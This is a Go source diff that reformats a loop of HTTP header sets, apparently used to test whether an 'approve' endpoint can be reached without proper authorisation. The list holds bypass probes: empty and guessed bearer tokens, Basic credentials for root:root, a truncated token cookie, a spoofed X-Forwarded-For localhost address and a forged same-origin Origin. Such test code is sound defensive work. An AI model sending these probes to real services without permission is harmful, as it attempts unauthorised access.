@@ -157,8 +157,14 @@ func loopIDs(url string, header map[string]string) ([]string, error) {
 func loopApprove(args []string, next func() bool) (tries int64, err error) {
 	url := args[0]
 	headers := []map[string]string{
-		{}, {"Authorization": "Bearer "}, {"Authorization": "Bearer guess"}, {"Authorization": "Basic cm9vdDpyb290"}, {"Cookie": "token=" + stageToken[:5]},
-		{"X-Forwarded-For": "127.0.0.1"}, {"X-HTTP-Method-Override": "POST"}, {"Host": "localhost"}, {"Content-Type": "text/plain"},
+		{},
+		{"Authorization": "Bearer "},
+		{"Authorization": "Bearer guess"},
+		{"Authorization": "Basic cm9vdDpyb290"},
+		{"Cookie": "token=" + stageToken[:5]},
+		{"X-Forwarded-For": "127.0.0.1"},
+		{"X-HTTP-Method-Override": "POST"},
+		{"Content-Type": "text/plain"},
 		{"Content-Type": "application/x-www-form-urlencoded", "Origin": url, "Sec-Fetch-Site": "same-origin"},
 	}
 	for next() {
